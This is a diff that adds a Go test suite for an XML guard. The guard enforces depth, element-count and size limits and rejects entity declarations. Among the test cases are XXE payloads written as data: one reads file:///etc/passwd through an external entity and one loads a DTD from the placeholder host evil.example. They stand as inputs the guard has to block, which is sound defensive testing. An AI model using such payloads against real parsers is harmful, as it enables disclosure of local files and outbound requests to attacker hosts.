@@ -0,0 +1,126 @@
+// ABOUTME: Tests for the XML structure guard
+// ABOUTME: Covers each limit, entity declarations, and markup that must not count as nesting
+
+package xmlguard
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestCheck(t *testing.T) {
+	limits := Limits{MaxBytes: 1024, MaxDepth: 4, MaxElements: 10}
+	deep := strings.Repeat("<a>", 5) + strings.Repeat("</a>", 5)
+
+	tests := []struct {
+		name    string
+		data    string
+		wantErr bool
+	}{
+		{"simple", `<?xml version="1.0"?><rss><channel><item/></channel></rss>`, false},
+		{"too deep", deep, true},
+		{"too many", "<r>" + strings.Repeat("<i/>", 10) + "</r>", true},
+		{"too big", "<r>" + strings.Repeat("x", 1024) + "</r>", true},
+		{"entity", `<!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>`, true},
+		{"lowercase entity", `<!doctype r [<!entity a "aaaa">]><r/>`, true},
+		{"external entity", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>`, true},
+		{"parameter entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>`, true},
+		{"public DTD", `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>`, false},
+		{"plain doctype", `<!DOCTYPE html><r/>`, false},
+		{"cdata", "<r><![CDATA[" + deep + "]]></r>", false},
+		{"comment", "<r><!--" + deep + "--></r>", false},
+		{"quoted >", `<r a="<b><c><d><e>"><s/></r>`, false},
+		{"void elements", "<r>" + strings.Repeat("<br>", 8) + "</r>", false},
+		{"malformed", "<r><a", false},
+		{"unbalanced close", "</a></a></a><r/>", false},
+		{"stray closes don't reset depth", "<a><a><a><a></x></x></x></x><a>", true},
+		{"close pops unclosed children", "<a><b><b><b></a><a><c/></a>", false},
+		{"rss link", "<r><i><link>x</link></i><i><link>y</link></i></r>", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := Check([]byte(tt.data), limits)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("Check() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if err != nil && !errors.Is(err, ErrUnsafe) {
+				t.Errorf("Check() error = %v, want ErrUnsafe", err)
+			}
+		})
+	}
+}
+
+func TestNewDecoder(t *testing.T) {
+	var v struct {
+		Title string `xml:"title"`
+	}
+	if err := NewDecoder(strings.NewReader(`<r><title>a &amp; b</title></r>`)).Decode(&v); err != nil || v.Title != "a & b" {
+		t.Fatalf("Decode() = %q, %v", v.Title, err)
+	}
+	// Only the predefined entities resolve; anything else is an error
+	if err := NewDecoder(strings.NewReader(`<r><title>&nbsp;&xxe;</title></r>`)).Decode(&v); err == nil {
+		t.Error("Decode() resolved an undeclared entity")
+	}
+}
+
+func TestNext(t *testing.T) {
+	data := []byte(`<?xml?><!DOCTYPE r><rdf:RDF a=">"><!--c--><![CDATA[<x>]]><br><i/></rdf:RDF>`)
+	want := []struct {
+		kind Kind
+		name string
+	}{
+		{ProcInst, ""}, {Directive, ""}, {StartTag, "rdf:RDF"}, {Comment, ""}, {CDATA, ""},
+		{StartTag, "br"}, {EmptyTag, "i"}, {EndTag, "rdf:RDF"},
+	}
+	i := 0
+	for _, w := range want {
+		m, ok := Next(data, i)
+		if !ok || m.Kind != w.kind || m.Name != w.name {
+			t.Fatalf("Next(%d) = %+v, %v; want kind %d name %q", i, m, ok, w.kind, w.name)
+		}
+		i = m.End
+	}
+	if _, ok := Next(data, i); ok {
+		t.Error("Next() found markup past the end")
+	}
+
+	// Markup cut off by the end of data isn't reported
+	for _, partial := range []string{"<item", `<a b=">`, "<!--x", "<![CDATA[x", "<?xml"} {
+		if m, ok := Next([]byte(partial), 0); ok {
+			t.Errorf("Next(%q) = %+v, want incomplete", partial, m)
+		}
+	}
+}
+
+func TestStack(t *testing.T) {
+	var s Stack
+	for _, name := range []string{"rss", "channel", "item", "p", "b"} {
+		s.Push(name)
+	}
+	s.Pop("x")  // matches nothing
+	s.Pop("br") // void, never open
+	if s.Depth() != 5 {
+		t.Fatalf("Depth() = %d after stray pops, want 5", s.Depth())
+	}
+	s.Pop("item") // closes p and b with it
+	if got := strings.Join(s.Names(), ","); got != "rss,channel" {
+		t.Errorf("Names() = %s, want rss,channel", got)
+	}
+}
+
+func TestCheckZeroLimits(t *testing.T) {
+	data := strings.Repeat("<a>", 1000)
+	if err := Check([]byte(data), Limits{}); err != nil {
+		t.Errorf("Check() with no limits = %v", err)
+	}
+}
+
+func FuzzCheck(f *testing.F) {
+	f.Add([]byte(`<!DOCTYPE r [<!ENTITY a "x">]><r>&a;</r>`))
+	f.Add([]byte(`<r a='>'><![CDATA[<x>]]><!-- <y> --><?pi <z>?></r>`))
+	f.Add([]byte("<<<!<?<![CDATA["))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		_ = Check(data, Limits{MaxDepth: 8, MaxElements: 64})
+	})
+}